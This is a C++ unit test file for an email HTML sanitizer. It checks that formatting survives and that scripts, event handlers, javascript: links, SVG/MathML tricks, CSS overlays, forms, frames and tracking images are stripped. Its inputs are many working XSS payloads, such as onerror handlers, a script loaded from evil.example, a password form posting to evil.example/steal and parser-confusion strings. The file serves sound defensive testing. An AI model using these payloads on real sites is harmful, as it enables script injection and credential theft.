#include <gtest/gtest.h>

#include <algorithm>
#include <regex>
#include <set>

#include <rapport/base/strings.hpp>
#include <rapport/email/html.hpp>

using namespace rapport;
using namespace rapport::email;

namespace {

std::string clean(std::string_view html) { return sanitize_html(html).html; }

bool has(const std::string& s, std::string_view what) { return to_lower(s).find(to_lower(what)) != std::string::npos; }

// What a browser would build from `out`: every tag in it is checked against what may exist. Text
// and attribute values are escaped, so each literal '<' starts a real tag and no value holds '"'.
void expect_inert(const std::string& out) {
  static const std::set<std::string> k_tags = {
      "a", "abbr", "address", "b", "bdi", "bdo", "big", "blockquote", "br", "caption", "center", "cite", "code", "col",
      "colgroup", "dd", "del", "details", "dfn", "div", "dl", "dt", "em", "font", "h1", "h2", "h3", "h4", "h5", "h6",
      "hr", "i", "img", "ins", "kbd", "li", "mark", "ol", "p", "pre", "q", "s", "samp", "small", "span", "strike",
      "strong", "sub", "summary", "sup", "table", "tbody", "td", "tfoot", "th", "thead", "tr", "tt", "u", "ul", "var",
      "wbr"};
  static const std::set<std::string> k_attributes = {
      "align", "alt", "bgcolor", "border", "cellpadding", "cellspacing", "color", "colspan", "data-quoted",
      "data-remote-src", "dir", "face", "height", "href", "lang", "rel", "rowspan", "size", "span", "src", "start",
      "style", "target", "title", "type", "valign", "width"};
  static const std::regex k_tag(R"re(<(/?)([a-z0-9]+)((?:\s+[a-z-]+(?:="[^"<>]*")?)*)>)re");
  static const std::regex k_attr(R"re(\s+([a-z-]+)(?:="([^"]*)")?)re");
  EXPECT_EQ(out.find("<!"), std::string::npos) << out;
  std::size_t tags = 0;
  for (std::sregex_iterator it(out.begin(), out.end(), k_tag), end; it != end; ++it, ++tags) {
    EXPECT_TRUE(k_tags.count((*it)[2])) << "element " << (*it)[2] << " in: " << out;
    std::string attrs = (*it)[3];
    for (std::sregex_iterator a(attrs.begin(), attrs.end(), k_attr); a != end; ++a) {
      std::string name = (*a)[1], value = to_lower((*a)[2].str());
      EXPECT_TRUE(k_attributes.count(name)) << "attribute " << name << " in: " << out;
      if (name == "href") {
        EXPECT_TRUE(value.rfind("https://", 0) == 0 || value.rfind("http://", 0) == 0 || value.rfind("mailto:", 0) == 0 ||
                    value.rfind("tel:", 0) == 0)
            << out;
      }
      if (name == "src") EXPECT_TRUE(value.rfind("cid:", 0) == 0 || value.rfind("data:image/", 0) == 0) << out;
      if (name == "style") {
        for (const char* bad : {"position", "url(", "expression", "z-index", "\\", "/*"})
          EXPECT_EQ(value.find(bad), std::string::npos) << out;
      }
    }
  }
  // Every '<' was a tag the pattern read (none hides in a form it did not).
  EXPECT_EQ(tags, static_cast<std::size_t>(std::count(out.begin(), out.end(), '<'))) << out;
}

}  // namespace

TEST(EmailHtml, KeepsTheSendersFormatting) {
  auto out = clean(
      "<html><head><title>Invoice</title></head><body>"
      "<h2>Your order</h2><p>Hello <b>Bo</b>, <strong>thanks</strong> and <i>see</i> <u>below</u>:</p>"
      "<ul><li>one</li><li>two</li></ul><ol start=\"3\"><li>three</li></ol>"
      "<table border=\"1\" cellpadding=\"4\"><thead><tr><th colspan=\"2\">Items</th></tr></thead>"
      "<tbody><tr><td align=\"right\" style=\"color: #c00; font-weight: bold\">1</td><td>Lamp</td></tr></tbody></table>"
      "<blockquote>quoted words</blockquote><pre>  code  </pre><p><a href=\"https://example.com/a?b=1&amp;c=2\">site</a></p>"
      "<p><font color=\"red\" face=\"Arial\" size=\"3\">red</font></p></body></html>");
  EXPECT_EQ(out,
            "<h2>Your order</h2><p>Hello <b>Bo</b>, <strong>thanks</strong> and <i>see</i> <u>below</u>:</p>"
            "<ul><li>one</li><li>two</li></ul><ol start=\"3\"><li>three</li></ol>"
            "<table border=\"1\" cellpadding=\"4\"><thead><tr><th colspan=\"2\">Items</th></tr></thead>"
            "<tbody><tr><td align=\"right\" style=\"color: #c00; font-weight: bold\">1</td><td>Lamp</td></tr></tbody></table>"
            "<blockquote>quoted words</blockquote><pre>  code  </pre><p><a href=\"https://example.com/a?b=1&amp;c=2\" "
            "target=\"_blank\" rel=\"noopener noreferrer\">site</a></p>"
            "<p><font color=\"red\" face=\"Arial\" size=\"3\">red</font></p>");
}

TEST(EmailHtml, DropsScriptsAndEventHandlers) {
  auto out = clean(
      "<p>before</p><script>window.__pwned = 1</script><SCRIPT SRC=//evil.example/x.js></SCRIPT>"
      "<img src=x onerror=\"window.__pwned=1\"><img src=\"cid:ok\" onerror=alert(1) onload=alert(2)>"
      "<p onclick=\"alert(1)\" onmouseover=alert(2)>click</p><body onload=alert(3)><div>after</div>");
  expect_inert(out);
  EXPECT_TRUE(has(out, "<p>before</p>"));
  EXPECT_TRUE(has(out, "<p>click</p>"));
  EXPECT_TRUE(has(out, "<div>after</div>"));
  EXPECT_TRUE(has(out, "<img src=\"cid:ok\">"));  // the handlers go, the inline image stays
  EXPECT_FALSE(has(out, "__pwned"));
}

TEST(EmailHtml, LinksOnlyToWebMailAndPhone) {
  for (const char* href : {"jAvAsCrIpT:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "java&#x09;script:x",
                           "&#106;avascript:alert(1)", "\x01javascript:x", "vbscript:x", "data:text/html,<script>x</script>",
                           "data:text/html;base64,PHNjcmlwdD4=", "file:///etc/passwd", "//evil.example/", "/relative",
                           "#top"}) {
    auto out = clean(std::string("<a href=\"") + href + "\">text</a>");
    expect_inert(out);
    EXPECT_FALSE(has(out, "href")) << href << " -> " << out;
    EXPECT_TRUE(has(out, ">text</a>")) << out;  // the words stay
  }
  EXPECT_EQ(clean("<a href=\" https://ex.example/p \">x</a>"),
            "<a href=\"https://ex.example/p\" target=\"_blank\" rel=\"noopener noreferrer\">x</a>");
  EXPECT_EQ(clean("<a href=\"mailto:a@example.com\" target=\"_self\" rel=\"opener\">m</a>"),
            "<a href=\"mailto:a@example.com\" target=\"_blank\" rel=\"noopener noreferrer\">m</a>");
  EXPECT_TRUE(has(clean("<a href=\"tel:+4930123\">call</a>"), "href=\"tel:+4930123\""));
}

TEST(EmailHtml, DropsSvgMathAndForeignContentTricks) {
  auto out = clean(
      "<svg><script>alert(1)</script><a xlink:href=\"javascript:alert(2)\"><text>x</text></a>"
      "<foreignObject><img src=x onerror=alert(3)></foreignObject></svg>"
      "<math><mtext><table><mglyph><style><img src=x onerror=alert(4)></style></mglyph></table></mtext></math>"
      "<svg><style><img src=x onerror=alert(5)></style></svg><p>kept</p>");
  expect_inert(out);
  EXPECT_TRUE(has(out, "<p>kept</p>"));
}

TEST(EmailHtml, DropsStyleSheetsAndCssThatEscapesItsBox) {
  auto out = clean(
      "<style>div{position:fixed;top:0;left:0;width:100%;height:100%}</style>"
      "<div style=\"position:fixed; top:0; left:0; z-index:9999; color: blue\">overlay</div>"
      "<p style=\"background:url(https://tracker.example/p.gif); background-image: url('x'); width: expression(alert(1))\">bg</p>"
      "<p style=\"color: red; font-size: 14px; transform: scale(9); margin: 0 0 1em 0\">styled</p>"
      "<p style=\"color: \\72 ed; font-family: a/**/b\">escapes</p>"
      "<p style=\"display: none\">hidden</p><p style=\"display: -webkit-box\">other</p>");
  expect_inert(out);
  EXPECT_TRUE(has(out, "<div style=\"color: blue\">overlay</div>"));
  EXPECT_TRUE(has(out, "<p>bg</p>"));
  EXPECT_TRUE(has(out, "<p style=\"color: red; font-size: 14px; margin: 0 0 1em 0\">styled</p>"));
  EXPECT_TRUE(has(out, "<p>escapes</p>"));
  EXPECT_TRUE(has(out, "<p style=\"display: none\">hidden</p>"));
  EXPECT_TRUE(has(out, "<p>other</p>"));
}

TEST(EmailHtml, DropsBaseMetaRefreshFormsAndFrames) {
  auto out = clean(
      "<head><base href=\"https://evil.example/\"><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">"
      "<link rel=stylesheet href=https://evil.example/x.css></head>"
      "<form action=\"https://evil.example/steal\" method=post><label>Password</label><input type=password name=pw>"
      "<button formaction=\"javascript:alert(1)\">Go</button><select><option>a</option></select>"
      "<textarea>t</textarea></form>"
      "<iframe src=\"https://evil.example\" srcdoc=\"<script>alert(1)</script>\"></iframe>"
      "<object data=x.swf></object><embed src=x.swf><p>end</p><frameset><frame src=x></frameset>");
  expect_inert(out);
  EXPECT_TRUE(has(out, "Password"));  // a form's words stay, its controls do not
  EXPECT_FALSE(has(out, "evil.example"));
  EXPECT_TRUE(has(out, "<p>end</p>"));
}

TEST(EmailHtml, CommentAndParserConfusionTricks) {
  for (const char* input : {
           "<!--<img src=x onerror=alert(1)>-->",
           "<!--><img src=x onerror=alert(1)>-->",
           "<!-- --!><img src=x onerror=alert(1)>-->",
           "<![CDATA[<img src=x onerror=alert(1)>]]>",
           "<p title=\"--><img src=x onerror=alert(1)>\">t</p>",
           "<p title='</p><script>alert(1)</script>'>u</p>",
           "<img \"\"\"><script>alert(1)</script>\">",
           "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
           "<xmp><img src=x onerror=alert(1)></xmp>",
           "<textarea><img src=x onerror=alert(1)></textarea>",
           "<title><img src=x onerror=alert(1)></title>",
           "<a/href=\"javascript:alert(1)\">x</a>",
           "<scr<script>ipt>alert(1)</script>",
           "<?xml-stylesheet href=\"javascript:alert(1)\"?><p>x</p>",
           "<div style=\"x:expression(alert(1))\">y</div>",
       }) {
    auto out = clean(input);
    expect_inert(out);
    // Whatever text survives is escaped: a browser re-parsing it builds no element from it.
    EXPECT_FALSE(has(out, "<img src=\"x\"")) << input << " -> " << out;
  }
  EXPECT_EQ(clean("<p title=\"a&quot;b&lt;c\">1 &lt; 2 &amp; 3</p>"), "<p title=\"a&quot;b&lt;c\">1 &lt; 2 &amp; 3</p>");
}

TEST(EmailHtml, BlocksRemoteImagesAndKeepsInlineOnes) {
  auto r = sanitize_html(
      "<img src=\"https://tracker.example/open.gif?u=1\" width=\"1\" height=\"1\" alt=\"\">"
      "<img src=\"cid:logo@mail\" alt=\"Logo\"><img src=\"data:image/png;base64,iVBORw0KGgo=\">"
      "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\"><img src=\"ftp://x/y.png\"><img>");
  EXPECT_EQ(r.html,
            "<img data-remote-src=\"https://tracker.example/open.gif?u=1\" width=\"1\" height=\"1\" alt=\"\">"
            "<img src=\"cid:logo@mail\" alt=\"Logo\"><img src=\"data:image/png;base64,iVBORw0KGgo=\">");
  EXPECT_EQ(r.remote_images, 1);
  EXPECT_EQ(r.inline_images, 1);
  // Old-style remote backgrounds load too: the attribute is not kept.
  EXPECT_FALSE(has(clean("<table background=\"https://tracker.example/bg.gif\"><tr><td>x</td></tr></table>"), "tracker"));
}

TEST(EmailHtml, FoldsQuotedHistory) {
  auto r = sanitize_email_html(
      "<div dir=\"ltr\">Thanks, that <b>worked</b>.</div><div class=\"gmail_quote\"><div>On Mon, Ann wrote:</div>"
      "<blockquote>Try turning it off and on.</blockquote></div>");
  ASSERT_TRUE(r);
  EXPECT_TRUE(r->quoted);
  EXPECT_EQ(r->html,
            "<div dir=\"ltr\">Thanks, that <b>worked</b>.</div><details data-quoted><summary>Show quoted text</summary>"
            "<div><div>On Mon, Ann wrote:</div><blockquote>Try turning it off and on.</blockquote></div></details>");
  auto plain = sanitize_email_html("<p>No history here</p>");
  ASSERT_TRUE(plain);
  EXPECT_FALSE(plain->quoted);
  EXPECT_EQ(plain->html, "<p>No history here</p>");
}

TEST(EmailHtml, RefusesHtmlOverTheLimit) {
  std::string big = "<p>" + std::string(2000, 'x') + "</p>";
  auto r = sanitize_email_html(big, 1000);
  ASSERT_FALSE(r);
  EXPECT_EQ(r.error().code, ErrorCode::too_large);
  EXPECT_TRUE(sanitize_email_html(big, 4000));
}

TEST(EmailHtml, DeepNestingIsBounded) {
  auto nested = [](int levels) {
    std::string deep;
    for (int i = 0; i < levels; ++i) deep += "<div>";
    return deep + "bottom";
  };
  // 200 levels: the text stays, only 100 levels of elements are written.
  EXPECT_EQ(clean(nested(200)), [] {
    std::string s;
    for (int i = 0; i < 100; ++i) s += "<div>";
    s += "bottom";
    for (int i = 0; i < 100; ++i) s += "</div>";
    return s;
  }());
  // 50,000 levels: the parser's own depth limit stops it; no crash, bounded output.
  EXPECT_LE(clean(nested(50000)).size(), 100u * 11);
}

TEST(EmailHtml, ResolvesInlineImagesToAttachmentUrls) {
  auto safe = clean("<p><img src=\"cid:Logo@Mail\" alt=\"l\"> and <img src=\"cid:gone@mail\"></p>");
  auto out = resolve_inline_images(safe, {{"logo@mail", "http://h/api/v2/attachments/7/content"}});
  EXPECT_EQ(out, "<p><img src=\"http://h/api/v2/attachments/7/content\" alt=\"l\"> and <img src=\"cid:gone@mail\"></p>");
  // A hostile Content-ID cannot break out of the attribute.
  auto odd = clean("<img src='cid:a\"b<c'>");
  EXPECT_EQ(resolve_inline_images(odd, {{"a\"b<c", "u\"v"}}), "<img src=\"u&quot;v\">");
}

TEST(EmailHtml, RemoteImagesLoadOnlyWhenAskedFor) {
  auto safe = clean("<p><img src=\"https://cdn.example/a.png\" alt=\"a\"><img src=\"cid:x\"></p><p>data-remote-src=\"t\"</p>");
  EXPECT_EQ(with_remote_images(safe),
            "<p><img src=\"https://cdn.example/a.png\" alt=\"a\"><img src=\"cid:x\"></p><p>data-remote-src=\"t\"</p>");
  EXPECT_EQ(safe.find("<img src=\"https://"), std::string::npos);  // before asking: no src
}
